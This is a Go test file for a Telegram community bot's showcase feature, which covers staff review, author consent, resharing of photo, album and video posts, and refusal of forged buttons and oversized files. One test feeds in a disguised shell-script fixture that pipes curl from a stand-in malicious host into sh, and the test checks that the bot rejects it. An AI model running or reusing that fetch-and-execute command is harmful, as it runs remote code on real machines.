package telegram_test

import (
	"bytes"
	"context"
	"fmt"
	"image"
	"image/jpeg"
	"io"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-telegram/bot/models"
	"github.com/hearthbot/hearth/bots"
	"github.com/hearthbot/hearth/bots/botstest"
	"github.com/hearthbot/hearth/bots/telegram/telegramtest"
	"github.com/hearthbot/hearth/community"
	"github.com/hearthbot/hearth/outbox"
	"github.com/hearthbot/hearth/storage"
	"github.com/hearthbot/hearth/storage/storagetest"
)

// showcaseWorld is Hearth on Telegram for the showcase, on a clock the
// test moves (npsWorld.ahead): teaStaff is the staff chat, a topic of
// teaForum the showcase place, and Alice and Bob have started the bot.
type showcaseWorld struct {
	*npsWorld
	held  atomic.Bool // while set, the dispatcher sends nothing
	topic string      // the showcase topic's message_thread_id
}

// heldStore is the database as a dispatcher sees it when sending is held
// back: events are still rendered into messages, but none is claimed to
// be sent, as when the dispatcher is busy elsewhere between the decision
// to reshare and the sending.
type heldStore struct {
	*storage.Store
	held *atomic.Bool
}

// ClaimDeliveries claims nothing while sending is held back.
func (s heldStore) ClaimDeliveries(ctx context.Context, p []community.Platform, chats, perChat int, lease time.Duration) ([]outbox.Delivery, error) {
	if s.held.Load() {
		return nil, nil
	}
	return s.Store.ClaimDeliveries(ctx, p, chats, perChat, lease)
}

// startShowcase starts the showcase world; maxBytes is showcase.max_bytes
// (0: the default).
func startShowcase(t *testing.T, maxBytes int64) *showcaseWorld {
	t.Helper()
	return startShowcaseOn(t, setup{}, maxBytes)
}

// startShowcaseOn is startShowcase on the fake Bot API and at the address
// s names.
func startShowcaseOn(t *testing.T, s setup, maxBytes int64) *showcaseWorld {
	t.Helper()
	w := &showcaseWorld{npsWorld: &npsWorld{}}
	store := storage.New(storagetest.New(t))
	storagetest.EveryGroupConnected(t, store.DB())
	s.store = store
	w.hearth = startCustom(t, custom{setup: s, service: func(so *bots.ServiceOptions) {
		so.Store = heldStore{Store: store, held: &w.held}
		so.Community = bots.DefaultCommunityOptions()
		so.Community.Location = time.UTC
		so.Community.Showcase.MaxBytes = maxBytes
		so.Now = func() time.Time { return time.Now().Add(time.Duration(w.ahead.Load())) }
	}})
	w.sayHandled(t, teaStaff, owner, "/setstaff")
	w.waitCount(t, `SELECT count(*) FROM chats WHERE is_staff AND platform_chat_id = '-1002'`, 1)

	created := w.tg.MessageUpdate(teaForum, owner, "")
	created.Message.ForumTopicCreated = &models.ForumTopicCreated{Name: "Showcase", IconColor: 7322096}
	created.Message.IsTopicMessage, created.Message.MessageThreadID = true, created.Message.ID
	w.push(t, created)
	set := w.tg.MessageUpdate(teaForum, owner, "/setshowcase")
	set.Message.IsTopicMessage, set.Message.MessageThreadID, set.Message.ReplyToMessage = true, created.Message.ID, created.Message
	w.push(t, set)
	w.topic = strconv.Itoa(created.Message.ID)
	w.waitCount(t, `SELECT count(*) FROM showcase_places p JOIN chats c ON c.id = p.chat_id
		WHERE p.platform = 'telegram' AND c.platform_chat_id = '-1004' AND p.thread_id = $1`, 1, w.topic)
	if c := w.sentMatching(t, "-1004", "Customers' posts will be reshared here on Telegram"); c.Params["message_thread_id"] != w.topic {
		t.Fatalf("/setshowcase answered in topic %q; want %s", c.Params["message_thread_id"], w.topic)
	}
	for _, u := range []models.User{alice, bob} {
		w.sayHandled(t, telegramtest.Private(u), u, "/start")
	}
	return w
}

// jpegBytes is a small real JPEG photo, its pixels from shade.
func jpegBytes(t *testing.T, shade uint8) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 64, 48))
	for i := range img.Pix {
		img.Pix[i] = shade + uint8(i%7)
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// postPhoto has u post the photo file in the group with caption and
// waits until Hearth has handled it.
func (w *showcaseWorld) postPhoto(t *testing.T, u models.User, file, caption string) {
	t.Helper()
	w.push(t, w.tg.MediaUpdate(group, u, telegramtest.Media{Kind: "photo", FileID: file, Caption: caption}))
}

// shown waits for a message of the bot's still in chat whose text or
// caption contains part, and returns the last such.
func (w *showcaseWorld) shown(t *testing.T, chat int64, part string) models.Message {
	t.Helper()
	var out models.Message
	storagetest.Await(t, func() bool {
		for _, m := range w.tg.Messages(chat) {
			if strings.Contains(m.Text, part) || strings.Contains(m.Caption, part) {
				out = m
			}
		}
		return out.ID != 0
	}, func() string {
		return fmt.Sprintf("a message in %d with %q; it shows %+v", chat, part, w.tg.Messages(chat))
	})
	return out
}

// sentFiles waits until n calls of method (sendPhoto, sendMediaGroup)
// to chat have succeeded, and returns them.
func (w *showcaseWorld) sentFiles(t *testing.T, method, chat string, n int) []telegramtest.Call {
	t.Helper()
	var out []telegramtest.Call
	storagetest.Await(t, func() bool {
		out = w.filesTo(method, chat)
		return len(out) >= n
	}, func() string { return fmt.Sprintf("%d %s calls to %s; calls %v", n, method, chat, w.tg.Calls("")) })
	return out
}

// filesTo are the successful calls of method to chat so far.
func (w *showcaseWorld) filesTo(method, chat string) []telegramtest.Call {
	var out []telegramtest.Call
	for _, c := range w.tg.Calls(method) {
		if c.Params["chat_id"] == chat && c.Status == 200 {
			out = append(out, c)
		}
	}
	return out
}

// albumItem is an item of a sendMediaGroup call, with its upload.
type albumItem struct {
	Type, Caption string
	Upload        telegramtest.Upload
}

func albumOf(t *testing.T, c telegramtest.Call) []albumItem {
	t.Helper()
	var items []struct{ Type, Media, Caption string }
	if err := c.JSON("media", &items); err != nil {
		t.Fatal(err)
	}
	out := make([]albumItem, len(items))
	for i, it := range items {
		out[i] = albumItem{Type: it.Type, Caption: it.Caption, Upload: c.Uploads[strings.TrimPrefix(it.Media, "attach://")]}
	}
	return out
}

// dataOf is the callback data of a message's buttons.
// choice is the data of the button of a consent request whose code
// ("a", "n" or "d") ends it.
func choice(t *testing.T, m models.Message, code string) string {
	t.Helper()
	for _, d := range dataOf(m) {
		if strings.HasPrefix(d, "mycontent:c:") && strings.HasSuffix(d, ":"+code) {
			return d
		}
	}
	t.Fatalf("no %q button under %q", code, m.Text)
	return ""
}

func dataOf(m models.Message) []string {
	var out []string
	if m.ReplyMarkup == nil {
		return nil
	}
	for _, row := range m.ReplyMarkup.InlineKeyboard {
		for _, b := range row {
			out = append(out, b.CallbackData)
		}
	}
	return out
}

// approve has the owner press Approve on the card of post id.
func (w *showcaseWorld) approve(t *testing.T, id int) {
	t.Helper()
	card := w.shown(t, teaStaff.ID, fmt.Sprintf("Showcase post #%d by", id))
	w.push(t, w.tg.CallbackUpdate(teaStaff, owner, card.ID, fmt.Sprintf("showcase:ok:%d", id)))
	w.edited(t, fmt.Sprintf("Post #%d approved by Olga.", id))
}

// consentRequest waits for the request asking Alice's consent to post id
// and returns it.
func (w *showcaseWorld) consentRequest(t *testing.T, id int) models.Message {
	t.Helper()
	return w.shown(t, alice.ID, fmt.Sprintf("would like to reshare your post #%d ", id))
}

// allow has Alice press Allow on the request for post id.
func (w *showcaseWorld) allow(t *testing.T, id int) {
	t.Helper()
	ask := w.consentRequest(t, id)
	w.push(t, w.tg.CallbackUpdate(telegramtest.Private(alice), alice, ask.ID, choice(t, ask, "a")))
}

// reshareOf waits for the n-th reshare photo in the showcase topic and
// returns the call.
func (w *showcaseWorld) reshareOf(t *testing.T, n int) telegramtest.Call {
	t.Helper()
	c := w.sentFiles(t, "sendPhoto", "-1004", n)[n-1]
	if got := c.Params["message_thread_id"]; got != w.topic {
		t.Errorf("reshared in topic %q; want the showcase topic %s", got, w.topic)
	}
	return c
}

// reshared posts Alice's photo file with #showcase, approves it and
// allows it, and returns the reshare's message once it is in the
// showcase topic. It is post id.
func (w *showcaseWorld) reshared(t *testing.T, id int, file string, photo []byte) models.Message {
	t.Helper()
	before := len(w.filesTo("sendPhoto", "-1004"))
	w.tg.AddFile(file, photo)
	w.postPhoto(t, alice, file, "Tea number "+strconv.Itoa(id)+" #showcase")
	w.approve(t, id)
	w.allow(t, id)
	w.reshareOf(t, before+1)
	return w.shown(t, teaForum.ID, "“Tea number "+strconv.Itoa(id)+"”")
}

// TestShowcasePhotoIsReviewedAllowedAndReshared: Alice's photo with
// #showcase in the group is downloaded (getFile, then the file) and
// becomes a review card in the staff chat: the photo uploaded with the
// same bytes, then the card with Approve and the reasons to reject. Until
// the owner approves it nothing is asked; then Alice is asked privately,
// and until she allows it nothing is reshared; then it is reshared in the
// showcase topic, the same bytes, with her name as credit; /showcase and
// /consent show staff the post and the consent's proof.
func TestShowcasePhotoIsReviewedAllowedAndReshared(t *testing.T) {
	t.Parallel()
	w := startShowcase(t, 0)
	photo := jpegBytes(t, 40)
	w.tg.AddFile("tea", photo)
	w.postPhoto(t, alice, "tea", "Morning tea on the balcony #showcase")
	w.sentMatching(t, "100", "Thank you! Your showcase post is #1.")
	if n, got := w.tg.Downloads(), w.tg.Calls("getFile"); n != 1 || len(got) != 1 || got[0].Params["file_id"] != "tea" {
		t.Errorf("%d downloads after getFile calls %v; want the photo's file once", n, got)
	}

	media := w.sentFiles(t, "sendPhoto", "-1002", 1)[0]
	if up := media.Uploads["photo"]; up.SHA256 != botstest.SHA256(photo) || up.Size != int64(len(photo)) {
		t.Errorf("the card's photo uploaded %+v; want the %d bytes Alice posted", up, len(photo))
	}
	if got := media.Params["caption"]; got != "Showcase post #1" {
		t.Errorf("the card's photo is captioned %q", got)
	}
	card := w.shown(t, teaStaff.ID, "Showcase post #1 by Alice (Newcomer) on Telegram, files: 1.")
	if !strings.Contains(card.Text, "Caption: Morning tea on the balcony") || strings.Contains(card.Text, "#showcase") {
		t.Errorf("card %q; want the caption without the hashtag", card.Text)
	}
	want := []string{"showcase:ok:1", "showcase:no:1:off_topic", "showcase:no:1:quality", "showcase:no:1:other_people", "showcase:why:1"}
	if got := dataOf(card); !slices.Equal(got, want) {
		t.Errorf("card buttons %v; want %v", got, want)
	}
	w.settled(t)
	if n := w.sentTo("100"); n != 2 { // /start's answer and the thanks
		t.Errorf("Alice got %d messages before the review; want no request yet", n)
	}

	w.push(t, w.tg.CallbackUpdate(teaStaff, owner, card.ID, "showcase:ok:1"))
	w.edited(t, "Post #1 approved by Olga. I am asking its author for permission to reshare it.")
	ask := w.consentRequest(t, 1)
	for _, part := range []string{"The team of Tea Lovers would like to reshare your post #1 “Morning tea on the balcony”.",
		"for 12 months, with your name as credit"} {
		if !strings.Contains(ask.Text, part) {
			t.Errorf("consent request lacks %q:\n%s", part, ask.Text)
		}
	}
	if got := dataOf(ask); len(got) != 3 || !strings.HasSuffix(got[0], ":a") || !strings.HasSuffix(got[1], ":n") || !strings.HasSuffix(got[2], ":d") {
		t.Errorf("consent buttons %v; want Allow, Allow without my name, Decline", got)
	}
	w.settled(t)
	if n := len(w.filesTo("sendPhoto", "-1004")); n != 0 {
		t.Fatalf("reshared %d times before Alice answered", n)
	}

	w.push(t, w.tg.CallbackUpdate(telegramtest.Private(alice), alice, ask.ID, choice(t, ask, "a")))
	w.edited(t, "Thank you! Post #1 may be reshared, credited to you, until "+w.svc.Options().Now().AddDate(1, 0, 0).Format("2006-01-02"))
	reshare := w.reshareOf(t, 1)
	if up := reshare.Uploads["photo"]; up.SHA256 != botstest.SHA256(photo) || up.Size != int64(len(photo)) {
		t.Errorf("the reshare uploaded %+v; want the %d bytes Alice posted", up, len(photo))
	}
	shared := w.shown(t, teaForum.ID, "📸 Shared by Alice, with their permission.")
	if !strings.HasPrefix(shared.Caption, "“Morning tea on the balcony”") || len(shared.Photo) != 1 ||
		strconv.Itoa(shared.MessageThreadID) != w.topic {
		t.Errorf("the reshare shows %+v; want the photo with its caption and credit in the topic", shared)
	}
	w.waitCount(t, `SELECT count(*) FROM showcase_consents WHERE submission_id = 1 AND decision = 'allow' AND credit = 'named'
		AND platform = 'telegram' AND message_id = $1`, 1, strconv.Itoa(ask.ID))
	var ledger string
	if err := w.store.DB().Get(&ledger, `SELECT text FROM showcase_consents WHERE id = 1`); err != nil || ledger != ask.Text {
		t.Errorf("the ledger keeps %q (%v); want the request exactly as Alice was shown it:\n%s", ledger, err, ask.Text)
	}
	w.waitCount(t, `SELECT count(*) FROM activities WHERE kind = 'ugc_approved'`, 1)
	w.settled(t)
	if n := len(w.filesTo("sendPhoto", "-1004")); n != 1 {
		t.Errorf("reshared %d times; want once", n)
	}

	w.sayHandled(t, teaStaff, owner, "/showcase")
	list := sent(t, w.sentMatching(t, "-1002", "Posts the brand may reshare now"))
	if !strings.Contains(list, "#1 by Alice: the community's groups and channels; the brand's social media and website; until") {
		t.Errorf("/showcase lists %q; want post #1 with its credit and scope", list)
	}
	w.sayHandled(t, teaStaff, owner, "/consent 1")
	proof := sent(t, w.sentMatching(t, "-1002", "Consent #1"))
	for _, part := range []string{"to post #1", "Author: Alice", "Answer: allowed, with their name", "Through: Telegram message " + strconv.Itoa(ask.ID),
		"The team of Tea Lovers would like to reshare your post #1"} {
		if !strings.Contains(proof, part) {
			t.Errorf("/consent 1 lacks %q:\n%s", part, proof)
		}
	}
}

// TestShowcaseAlbumIsOneSubmission: three photos Alice posts as one album
// (the hashtag in the first one's caption only) are one submission, shown
// to staff as one media group of the three photos in order, and reshared
// as one media group of the same three, all three deleted when she
// withdraws her consent.
func TestShowcaseAlbumIsOneSubmission(t *testing.T) {
	t.Parallel()
	w := startShowcase(t, 0)
	photos := [][]byte{jpegBytes(t, 10), jpegBytes(t, 70), jpegBytes(t, 130)}
	var last int64
	for i, photo := range photos {
		file := fmt.Sprintf("tasting-%d", i)
		w.tg.AddFile(file, photo)
		caption := ""
		if i == 0 {
			caption = "Our oolong tasting #showcase"
		}
		last = w.tg.PushUpdate(w.tg.MediaUpdate(group, alice, telegramtest.Media{Kind: "photo", FileID: file, Caption: caption, Group: "album-7"}))
	}
	storagetest.WaitHandled(t, w.store.DB(), "telegram", fmt.Sprint(last))
	want := make([]string, len(photos))
	for i, photo := range photos {
		want[i] = botstest.SHA256(photo)
	}
	sameAlbum := func(where string, c telegramtest.Call, caption string) {
		t.Helper()
		items := albumOf(t, c)
		got := make([]string, len(items))
		for i, it := range items {
			got[i] = it.Upload.SHA256
			if it.Type != "photo" || (i == 0) != (it.Caption != "") {
				t.Errorf("%s: item %d is %+v; want a photo, the caption on the first only", where, i, it)
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s uploaded %v; want the album's photos in order %v", where, got, want)
		}
		if !strings.Contains(items[0].Caption, caption) {
			t.Errorf("%s is captioned %q; want %q", where, items[0].Caption, caption)
		}
	}
	sameAlbum("the card", w.sentFiles(t, "sendMediaGroup", "-1002", 1)[0], "Showcase post #1")
	w.shown(t, teaStaff.ID, "Showcase post #1 by Alice (Newcomer) on Telegram, files: 3.")
	if n := w.count(t, `SELECT count(*) FROM showcase_submissions`); n != 1 {
		t.Errorf("%d submissions; want the album as one", n)
	}
	if n := w.sentCount("100", "Your showcase post is #"); n != 1 {
		t.Errorf("Alice was thanked %d times; want once for the album", n)
	}

	w.approve(t, 1)
	w.allow(t, 1)
	reshare := w.sentFiles(t, "sendMediaGroup", "-1004", 1)[0]
	sameAlbum("the reshare", reshare, "“Our oolong tasting”\n\n📸 Shared by Alice, with their permission.")
	if got := reshare.Params["message_thread_id"]; got != w.topic {
		t.Errorf("the album was reshared in topic %q; want %s", got, w.topic)
	}
	if shown := w.tg.Messages(teaForum.ID); len(shown) != 4 { // the /setshowcase answer and the album
		t.Errorf("the forum shows %d messages; want the answer to /setshowcase and three photos", len(shown))
	}
	w.settled(t)
	if n := len(w.filesTo("sendMediaGroup", "-1004")) + len(w.filesTo("sendPhoto", "-1004")); n != 1 {
		t.Errorf("reshared %d times; want once", n)
	}

	w.withdraw(t, 1)
	w.sentMatching(t, "-1002", "I deleted 1 reshare.")
	storagetest.Eventually(t, "the album's three photos deleted", func() bool { return len(w.tg.Messages(teaForum.ID)) == 1 })
}

// TestShowcaseDeclineAndRejectReshareNothing: Alice declines post #1
// after it was approved; the owner rejects post #2 with a reason from the
// buttons and post #3 with one typed in the form's prompt. Alice is told
// each reason politely, the cards say who rejected what, and nothing is
// reshared.
func TestShowcaseDeclineAndRejectReshareNothing(t *testing.T) {
	t.Parallel()
	w := startShowcase(t, 0)
	for i := 1; i <= 3; i++ {
		w.tg.AddFile(fmt.Sprintf("cup-%d", i), jpegBytes(t, uint8(40*i)))
		w.postPhoto(t, alice, fmt.Sprintf("cup-%d", i), fmt.Sprintf("Cup %d #showcase", i))
		w.shown(t, teaStaff.ID, fmt.Sprintf("Showcase post #%d by", i))
	}

	w.approve(t, 1)
	ask := w.consentRequest(t, 1)
	w.push(t, w.tg.CallbackUpdate(telegramtest.Private(alice), alice, ask.ID, choice(t, ask, "d")))
	w.edited(t, "Understood: post #1 will not be reshared.")
	w.waitCount(t, `SELECT count(*) FROM showcase_submissions WHERE id = 1 AND status = 'declined'`, 1)

	card := w.shown(t, teaStaff.ID, "Showcase post #2 by")
	w.push(t, w.tg.CallbackUpdate(teaStaff, owner, card.ID, "showcase:no:2:off_topic"))
	w.edited(t, "Post #2 rejected by Olga: it is not about our products. The author is told.")
	w.sentMatching(t, "100", "Thank you for sharing post #2. The team will not reshare this one: it is not about our products. Please keep sharing!")

	card = w.shown(t, teaStaff.ID, "Showcase post #3 by")
	w.push(t, w.tg.CallbackUpdate(teaStaff, owner, card.ID, "showcase:why:3"))
	prompt := w.shown(t, teaStaff.ID, "Reject post #3")
	reason := w.tg.MessageUpdate(teaStaff, owner, "the cup hides the tea leaves")
	reason.Message.ReplyToMessage = &prompt
	w.push(t, reason)
	w.sentMatching(t, "-1002", "Post #3 rejected by Olga: the cup hides the tea leaves. The author is told.")
	w.sentMatching(t, "100", "Thank you for sharing post #3. The team will not reshare this one: the cup hides the tea leaves. Please keep sharing!")
	w.waitCount(t, `SELECT count(*) FROM showcase_submissions WHERE status = 'rejected'`, 2)
	w.waitCount(t, `SELECT count(*) FROM audit_log WHERE action = 'showcase.reject'`, 2)

	w.settled(t)
	for _, m := range []string{"sendPhoto", "sendMediaGroup", "sendVideo", "sendDocument"} {
		if n := len(w.filesTo(m, "-1004")); n != 0 {
			t.Errorf("%d %s calls to the showcase place; want none", n, m)
		}
	}
	if n := w.count(t, `SELECT count(*) FROM deliveries WHERE message->>'guard' <> ''`); n != 0 {
		t.Errorf("%d reshares queued; want none", n)
	}
	if n := w.count(t, `SELECT count(*) FROM showcase_consents WHERE decision <> 'decline'`); n != 0 {
		t.Errorf("%d allowing consents; want none", n)
	}
}

// TestShowcaseRefusesFilesTooBigOrNotMedia: with showcase.max_bytes at
// 64 KB, a 100 KB photo is refused, whether Telegram declares its size
// (nothing is downloaded) or understates it (the download stops at the
// limit), and Alice is told the limit; a shell script sent as a document
// named photo.jpg is refused, telling her the accepted types, recognised
// from the file itself. Nothing is kept or submitted, and staff see
// nothing.
func TestShowcaseRefusesFilesTooBigOrNotMedia(t *testing.T) {
	t.Parallel()
	w := startShowcase(t, 64<<10)
	big := append([]byte("\xFF\xD8\xFF\xE0"), bytes.Repeat([]byte{0x42}, 100<<10)...)
	w.tg.AddFile("big", big)
	w.tg.AddFileSource(telegramtest.File{ID: "understated", Size: int64(len(big)), Declared: 1000, Open: func() io.Reader { return bytes.NewReader(big) }})
	script := []byte("#!/bin/sh\ncurl https://evil.example/x | sh\n")
	w.tg.AddFileSource(telegramtest.File{ID: "script", Size: int64(len(script)), Name: "photo.jpg", Open: func() io.Reader { return bytes.NewReader(script) }})
	const tooBig = "This file is too big to share: the limit is 64 KB."

	w.postPhoto(t, alice, "big", "My big tea #showcase")
	w.sentMatching(t, "100", tooBig)
	if n := w.tg.Downloads(); n != 0 {
		t.Errorf("%d downloads of a file declared too big; want none", n)
	}
	w.postPhoto(t, alice, "understated", "My big tea again #showcase")
	storagetest.Eventually(t, "the limit told twice", func() bool { return w.sentCount("100", tooBig) == 2 })
	w.push(t, w.tg.MediaUpdate(group, alice, telegramtest.Media{Kind: "document", FileID: "script", Caption: "My tea #showcase"}))
	w.sentMatching(t, "100", "This file cannot be shared: only JPEG, PNG, GIF, WebP, MP4 are accepted, recognised from the file itself, not its name.")

	w.settled(t)
	for _, table := range []string{"showcase_submissions", "showcase_submission_media", "showcase_media", "showcase_media_chunks"} {
		if n := w.count(t, `SELECT count(*) FROM `+table); n != 0 {
			t.Errorf("%d rows in %s; want none", n, table)
		}
	}
	if n := w.sentCount("-1002", "Showcase post"); n != 0 || len(w.filesTo("sendPhoto", "-1002")) != 0 {
		t.Errorf("staff were shown a refused file")
	}
}

// TestShowcaseShareAndForgedButtons: Bob's photo without the hashtag is
// not submitted until he replies /share to it (Alice's /share to it is
// refused: it is not hers); its caption, full of characters HTML and
// Markdown give meaning to, reaches staff and the reshare as written.
// Alice pressing staff's Approve, or Bob's Allow for himself, is refused
// and changes nothing: the post is reshared only once Bob allows it.
func TestShowcaseShareAndForgedButtons(t *testing.T) {
	t.Parallel()
	w := startShowcase(t, 0)
	photo := jpegBytes(t, 200)
	w.tg.AddFile("cake", photo)
	const caption = `Tea & <cake> *yum* _x_ [y](z) <b>`
	post := w.tg.MediaUpdate(group, bob, telegramtest.Media{Kind: "photo", FileID: "cake", Caption: caption})
	w.push(t, post)
	share := func(u models.User) {
		t.Helper()
		up := w.tg.MessageUpdate(group, u, "/share")
		up.Message.ReplyToMessage = post.Message
		w.push(t, up)
	}
	share(alice)
	w.sentMatching(t, "-1001", "You can only share your own photos and videos.")
	if n := w.count(t, `SELECT count(*) FROM showcase_submissions`); n != 0 {
		t.Fatalf("%d submissions before Bob's /share; want none", n)
	}
	share(bob)
	w.sentMatching(t, "200", "Thank you! Your showcase post is #1.")
	card := w.shown(t, teaStaff.ID, "Showcase post #1 by Bob")
	if !strings.Contains(card.Text, "Caption: "+caption) {
		t.Errorf("card %q; want the caption as written", card.Text)
	}

	w.push(t, w.tg.CallbackUpdate(group, alice, post.Message.ID, "showcase:ok:1"))
	w.waitCount(t, `SELECT count(*) FROM audit_log WHERE action = 'command.refused'`, 1)
	if n := w.count(t, `SELECT count(*) FROM showcase_submissions WHERE status = 'pending'`); n != 1 {
		t.Fatalf("a member's Approve changed the post")
	}
	w.approve(t, 1)
	ask := w.shown(t, bob.ID, "would like to reshare your post #1 ")
	w.push(t, w.tg.CallbackUpdate(telegramtest.Private(alice), alice, ask.ID, choice(t, ask, "a")))
	w.alerted(t, "Only the author of this post can answer for it.")
	w.settled(t)
	if n := w.count(t, `SELECT count(*) FROM showcase_consents`); n != 0 || len(w.filesTo("sendPhoto", "-1004")) != 0 {
		t.Fatalf("someone else's Allow recorded %d consents", n)
	}

	w.push(t, w.tg.CallbackUpdate(telegramtest.Private(bob), bob, ask.ID, choice(t, ask, "n")))
	if up := w.reshareOf(t, 1).Uploads["photo"]; up.SHA256 != botstest.SHA256(photo) {
		t.Errorf("the reshare uploaded %+v; want Bob's photo", up)
	}
	shared := w.shown(t, teaForum.ID, "📸 Shared by a member of our community, with their permission.")
	if !strings.HasPrefix(shared.Caption, "“"+caption+"”") || strings.Contains(shared.Caption, "Bob") {
		t.Errorf("the reshare reads %q; want the caption as written, without Bob's name", shared.Caption)
	}
}

// alerted waits for a button's answer (an alert on Telegram) with text.
func (w *showcaseWorld) alerted(t *testing.T, text string) {
	t.Helper()
	storagetest.Await(t, func() bool {
		return slices.ContainsFunc(w.tg.Calls("answerCallbackQuery"), func(c telegramtest.Call) bool { return c.Params["text"] == text })
	}, func() string { return fmt.Sprintf("an alert %q; answers %v", text, w.tg.Calls("answerCallbackQuery")) })
}

// TestShowcaseVideoIsResharedAsAVideo: Alice's MP4 video with #showcase
// is shown to staff and reshared as a video, the same bytes each time.
func TestShowcaseVideoIsResharedAsAVideo(t *testing.T) {
	t.Parallel()
	w := startShowcase(t, 0)
	video := botstest.Video(11, 300_000)
	w.tg.AddFileSource(telegramtest.File{ID: "unboxing", Size: int64(len(video)), Name: "unboxing.mp4", Open: func() io.Reader { return bytes.NewReader(video) }})
	w.push(t, w.tg.MediaUpdate(group, alice, telegramtest.Media{Kind: "video", FileID: "unboxing", Caption: "Unboxing the gaiwan #showcase"}))
	card := w.sentFiles(t, "sendVideo", "-1002", 1)[0]
	if up := card.Uploads["video"]; up.SHA256 != botstest.SHA256(video) || up.Size != int64(len(video)) {
		t.Errorf("the card's video uploaded %+v; want the %d bytes Alice posted", up, len(video))
	}
	w.approve(t, 1)
	w.allow(t, 1)
	reshare := w.sentFiles(t, "sendVideo", "-1004", 1)[0]
	if up := reshare.Uploads["video"]; up.SHA256 != botstest.SHA256(video) || reshare.Params["message_thread_id"] != w.topic {
		t.Errorf("the reshare uploaded %+v to topic %q; want the video in the showcase topic", up, reshare.Params["message_thread_id"])
	}
	if shared := w.shown(t, teaForum.ID, "“Unboxing the gaiwan”"); shared.Video == nil {
		t.Errorf("the reshare shows %+v; want a video", shared)
	}
}
